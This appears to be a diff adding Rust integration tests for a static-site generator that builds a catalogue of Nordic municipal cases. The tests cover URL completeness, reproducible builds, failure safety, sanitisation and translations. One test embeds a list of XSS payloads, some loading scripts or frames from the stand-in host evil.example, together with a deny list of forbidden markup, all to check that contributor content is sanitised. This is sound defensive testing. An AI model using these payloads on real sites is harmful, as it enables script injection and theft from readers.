@@ -1,0 +1,379 @@
+//! `catalogue build`: every permanent URL exists, builds are byte-identical,
+//! a failed build leaves the previous site alone, and no contributor markup
+//! reaches a reader unsanitised.
+
+use std::collections::BTreeMap;
+use std::path::{Path, PathBuf};
+use std::process::Output;
+
+use crate::harness::{TestCatalogue, fixtures, stderr};
+
+fn repository() -> PathBuf {
+    PathBuf::from(env!("CARGO_MANIFEST_DIR"))
+}
+
+/// Build `catalogue` (a path relative to the repository, or absolute) into
+/// `out` with the default theme.
+fn build(catalogue: &Path, out: &Path, extra: &[&str]) -> Output {
+    let mut command = std::process::Command::new(env!("CARGO_BIN_EXE_catalogue"));
+    command
+        .args(["build", "--color", "never", "--catalogue"])
+        .arg(catalogue)
+        .arg("--out")
+        .arg(out)
+        .args(extra)
+        .current_dir(repository());
+    command.output().unwrap()
+}
+
+/// Every file of a folder with its bytes, by relative path.
+fn tree(root: &Path) -> BTreeMap<String, Vec<u8>> {
+    walkdir::WalkDir::new(root)
+        .sort_by_file_name()
+        .into_iter()
+        .map(|entry| entry.unwrap())
+        .filter(|entry| entry.file_type().is_file())
+        .map(|entry| {
+            let relative = entry
+                .path()
+                .strip_prefix(root)
+                .unwrap()
+                .to_string_lossy()
+                .replace('\\', "/");
+            (relative, std::fs::read(entry.path()).unwrap())
+        })
+        .collect()
+}
+
+fn read(root: &Path, path: &str) -> String {
+    String::from_utf8(std::fs::read(root.join(path)).unwrap_or_else(|_| panic!("{path} is missing"))).unwrap()
+}
+
+#[test]
+fn every_permanent_url_exists_for_the_shipped_catalogue() {
+    let out = tempfile::tempdir().unwrap();
+    let site = out.path().join("site");
+    let output = build(Path::new("examples-catalogue"), &site, &[]);
+    assert_eq!(output.status.code(), Some(0), "{}", stderr(&output));
+
+    let cases: serde_json::Value = serde_json::from_str(&read(&site, "data/cases.json")).unwrap();
+    let cases = cases.as_array().unwrap();
+    assert!(cases.len() >= 12);
+    for fixed in [
+        "index.html",
+        "search/index.html",
+        "404.html",
+        "feed.xml",
+        "sitemap.xml",
+        "data/cases.csv",
+    ] {
+        assert!(site.join(fixed).is_file(), "{fixed}");
+    }
+    let sitemap = read(&site, "sitemap.xml");
+    for case in cases {
+        let path = case["path"].as_str().unwrap();
+        let page = read(&site, &format!("{path}index.html"));
+        assert!(
+            page.contains(&html_escape(case["title"].as_str().unwrap())),
+            "{path} lacks its title"
+        );
+        assert!(
+            sitemap.contains(&format!("{path}</loc>")),
+            "{path} not in the sitemap"
+        );
+        let country = case["country"].as_str().unwrap().to_lowercase();
+        assert!(site.join(format!("countries/{country}/index.html")).is_file());
+        for municipality in case["municipalities"].as_array().unwrap() {
+            let territory = municipality["territory"].as_str().unwrap().to_lowercase();
+            let code = municipality["code"].as_str().unwrap();
+            let url = format!("countries/{territory}/{code}/");
+            assert!(site.join(format!("{url}index.html")).is_file(), "{url}");
+            assert!(page.contains(&format!("/{url}\"")), "{path} does not link {url}");
+        }
+        for (field, kind) in [("categories", "categories"), ("service_areas", "service-areas")] {
+            for term in case[field].as_array().unwrap() {
+                let url = format!("{kind}/{}/index.html", term.as_str().unwrap());
+                assert!(site.join(&url).is_file(), "{url}");
+            }
+        }
+        let cooperation = case["cooperation"].as_str().unwrap();
+        assert!(
+            site.join(format!("cooperation/{cooperation}/index.html"))
+                .is_file()
+        );
+    }
+    // Every vocabulary term has its page, with or without cases.
+    for term in ["internal", "external", "ai"] {
+        assert!(site.join(format!("categories/{term}/index.html")).is_file());
+    }
+    for country in ["se", "no", "dk", "fi", "is", "fo", "gl", "ax"] {
+        assert!(
+            site.join(format!("countries/{country}/index.html")).is_file(),
+            "{country}"
+        );
+    }
+    assert!(site.join("static/style.css").is_file());
+    assert_eq!(read(&site, "data/cases.csv").lines().count(), cases.len() + 1);
+}
+
+fn html_escape(text: &str) -> String {
+    text.replace('&', "&amp;")
+        .replace('<', "&lt;")
+        .replace('>', "&gt;")
+        .replace('"', "&quot;")
+        .replace('\'', "&#39;")
+}
+
+#[test]
+fn two_builds_are_byte_identical_whatever_the_thread_count() {
+    let out = tempfile::tempdir().unwrap();
+    let first = out.path().join("one");
+    let second = out.path().join("two");
+    assert!(
+        build(Path::new("examples-catalogue"), &first, &[])
+            .status
+            .success()
+    );
+    let output = std::process::Command::new(env!("CARGO_BIN_EXE_catalogue"))
+        .args(["build", "--catalogue", "examples-catalogue", "--out"])
+        .arg(&second)
+        .env("RAYON_NUM_THREADS", "1")
+        .current_dir(repository())
+        .output()
+        .unwrap();
+    assert!(output.status.success());
+    let (one, two) = (tree(&first), tree(&second));
+    assert_eq!(one.keys().collect::<Vec<_>>(), two.keys().collect::<Vec<_>>());
+    for (path, bytes) in &one {
+        assert!(two[path] == *bytes, "{path} differs between builds");
+    }
+}
+
+#[test]
+fn a_catalogue_with_errors_is_not_built_and_the_previous_site_stays() {
+    let catalogue = TestCatalogue::fixture("valid");
+    let site = catalogue.dir.path().join("site");
+    let first = build(&catalogue.root(), &site, &[]);
+    assert!(first.status.success(), "{}", stderr(&first));
+    let before = tree(&site);
+
+    catalogue.write(
+        "cases/SE/broken.md",
+        std::fs::read_to_string(
+            fixtures().join("invalid/E0301-unknown-municipality/cases/SE/digital-colleague.md"),
+        )
+        .unwrap()
+        .replace("The digital colleague", "Broken"),
+    );
+    let second = build(&catalogue.root(), &site, &[]);
+    assert_eq!(second.status.code(), Some(1));
+    let message = stderr(&second);
+    assert!(message.contains("error[E0301]"), "{message}");
+    assert!(message.contains("was left as it was"), "{message}");
+    assert_eq!(tree(&site), before);
+}
+
+#[test]
+fn a_build_that_fails_half_way_leaves_the_previous_site_untouched() {
+    let catalogue = TestCatalogue::fixture("valid");
+    let site = catalogue.dir.path().join("site");
+    assert!(build(&catalogue.root(), &site, &[]).status.success());
+    let before = tree(&site);
+
+    // A theme whose case template fails at render time, after the home page.
+    let theme = catalogue.dir.path().join("theme");
+    for entry in walkdir::WalkDir::new(repository().join("themes/default")) {
+        let entry = entry.unwrap();
+        let target = theme.join(
+            entry
+                .path()
+                .strip_prefix(repository().join("themes/default"))
+                .unwrap(),
+        );
+        if entry.file_type().is_dir() {
+            std::fs::create_dir_all(&target).unwrap();
+        } else {
+            std::fs::copy(entry.path(), &target).unwrap();
+        }
+    }
+    std::fs::write(
+        theme.join("templates/case.html"),
+        "{{ page.card.no_such_field | upper }}",
+    )
+    .unwrap();
+    let output = build(&catalogue.root(), &site, &["--theme", theme.to_str().unwrap()]);
+    assert_eq!(output.status.code(), Some(2), "{}", stderr(&output));
+    assert!(stderr(&output).contains("case.html"), "{}", stderr(&output));
+    assert_eq!(tree(&site), before);
+    let leftovers: Vec<_> = std::fs::read_dir(catalogue.dir.path())
+        .unwrap()
+        .map(|e| e.unwrap().file_name().to_string_lossy().into_owned())
+        .filter(|name| name.starts_with(".site."))
+        .collect();
+    assert!(leftovers.is_empty(), "{leftovers:?}");
+}
+
+/// Payloads from the OWASP XSS filter evasion cheat sheet, in a body.
+const XSS_BODY: &str = r#"
+## Background
+
+<script>alert('s1')</script>
+<SCRIPT SRC=https://evil.example/x.js></SCRIPT>
+<img src=x onerror="alert('s2')">
+<IMG SRC="javascript:alert('s3');">
+<svg onload=alert('s4')>
+<iframe src="https://evil.example/"></iframe>
+<a href="javascript:alert('s5')">a</a> <a href="JaVaScRiPt:alert('s6')">b</a>
+<a href="  javascript:alert('s7')">c</a> <a href="jav&#x09;ascript:alert('s8')">d</a>
+<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">e</a>
+<div style="background-image: url(javascript:alert('s9'))">f</div>
+<div style="width: expression(alert('s10'))">g</div>
+<object data="https://evil.example/x.swf"></object><embed src="https://evil.example/x">
+<form action="https://evil.example/"><input name="x"></form>
+<meta http-equiv="refresh" content="0;url=https://evil.example/">
+<base href="https://evil.example/">
+<link rel="stylesheet" href="https://evil.example/x.css">
+<style>body { background: url(https://evil.example/y) }</style>
+
+[m1](javascript:alert('s11')) [m2](vbscript:msgbox) ![m3](https://evil.example/t.png)
+
+## What was done
+
+Text.
+
+## Results and effects
+
+Text.
+
+## Lessons learned
+
+Text.
+"#;
+
+#[test]
+fn hostile_markup_in_a_body_never_reaches_the_output() {
+    let catalogue = TestCatalogue::fixture("valid");
+    let valid = std::fs::read_to_string(catalogue.root().join("cases/SE/digital-colleague.md")).unwrap();
+    let front_matter_end = valid.find("+++\n\n## Background").unwrap() + 4;
+    let hostile = format!(
+        "{}{XSS_BODY}",
+        &valid[..front_matter_end].replace(
+            "The digital colleague\"",
+            "The digital colleague <script>alert('t')</script>\""
+        )
+    );
+    catalogue.write("cases/SE/digital-colleague.md", hostile);
+    let site = catalogue.dir.path().join("site");
+    let output = build(&catalogue.root(), &site, &[]);
+    assert!(output.status.success(), "{}", stderr(&output));
+    for (path, bytes) in tree(&site) {
+        if !(path.ends_with(".html") || path.ends_with(".xml")) {
+            continue;
+        }
+        let text = String::from_utf8(bytes).unwrap().to_lowercase();
+        // Inert text may mention "javascript:"; what must never appear is
+        // markup that acts on it.
+        for forbidden in [
+            "<script",
+            "href=\"javascript",
+            "href=\"vbscript",
+            "href=\"data:",
+            "src=",
+            "onerror=",
+            "onload=",
+            "<iframe",
+            "<object",
+            "<embed",
+            "action=\"https://evil",
+            "http-equiv",
+            "<base",
+            "evil.example/x.css",
+            "expression(",
+            "<img",
+            "<svg",
+            "<style",
+            "style=\"background",
+        ] {
+            if let Some(at) = text.find(forbidden) {
+                let context = &text[text.floor_char_boundary(at.saturating_sub(200))
+                    ..text.ceil_char_boundary((at + 100).min(text.len()))];
+                panic!("{forbidden} in {path}: {context}");
+            }
+        }
+    }
+    let page = read(&site, "cases/se/digital-colleague/index.html");
+    assert!(
+        page.contains("&lt;script&gt;alert("),
+        "the title's markup is shown as text"
+    );
+}
+
+#[test]
+fn a_base_url_with_a_sub_path_prefixes_every_internal_link() {
+    let catalogue = TestCatalogue::fixture("valid");
+    let site = catalogue.dir.path().join("site");
+    let output = build(
+        &catalogue.root(),
+        &site,
+        &["--base-url", "https://example.org/nordic/"],
+    );
+    assert!(output.status.success(), "{}", stderr(&output));
+    let home = read(&site, "index.html");
+    assert!(home.contains("href=\"/nordic/static/style.css\""), "{home}");
+    assert!(home.contains("/nordic/cases/se/digital-colleague/"));
+    assert!(!home.contains("href=\"/cases"));
+    assert!(read(&site, "sitemap.xml").contains("https://example.org/nordic/cases/se/digital-colleague/"));
+}
+
+fn strings(language: &str) -> BTreeMap<String, String> {
+    let path = repository().join(format!("themes/default/i18n/{language}.toml"));
+    toml::from_str(&std::fs::read_to_string(path).unwrap()).unwrap()
+}
+
+#[test]
+fn every_ui_language_has_every_string() {
+    let english = strings("en");
+    for language in ["sv", "nb", "nn", "da", "fi", "is"] {
+        let translated = strings(language);
+        assert_eq!(
+            translated.keys().collect::<Vec<_>>(),
+            english.keys().collect::<Vec<_>>(),
+            "{language}.toml must have exactly the keys of en.toml"
+        );
+        assert!(
+            translated.values().all(|text| !text.trim().is_empty()),
+            "{language}"
+        );
+    }
+}
+
+#[test]
+fn the_site_language_is_chosen_in_catalogue_toml() {
+    for language in ["sv", "fi", "is"] {
+        let catalogue = TestCatalogue::fixture("valid");
+        let config = std::fs::read_to_string(catalogue.root().join("catalogue.toml")).unwrap();
+        catalogue.write(
+            "catalogue.toml",
+            config.replacen("language = \"en\"", &format!("language = \"{language}\""), 1),
+        );
+        let site = catalogue.dir.path().join("site");
+        let output = build(&catalogue.root(), &site, &[]);
+        assert!(output.status.success(), "{}", stderr(&output));
+        let home = read(&site, "index.html");
+        assert!(
+            home.contains(&format!("<html lang=\"{language}\">")),
+            "{language}"
+        );
+        let heading = strings(language)["home_heading"].clone();
+        assert!(home.contains(&html_escape(&heading)), "{language}: {heading}");
+        let case = read(&site, "cases/se/digital-colleague/index.html");
+        // The case keeps its own language; vocabulary labels follow the site.
+        assert!(case.contains("<div class=\"case-body\" lang=\"en\">"));
+        let sweden = match language {
+            "fi" => "Ruotsi",
+            "is" => "Svíþjóð",
+            _ => "Sverige",
+        };
+        assert!(case.contains(&format!(">{sweden}</a>")), "{language}");
+    }
+}
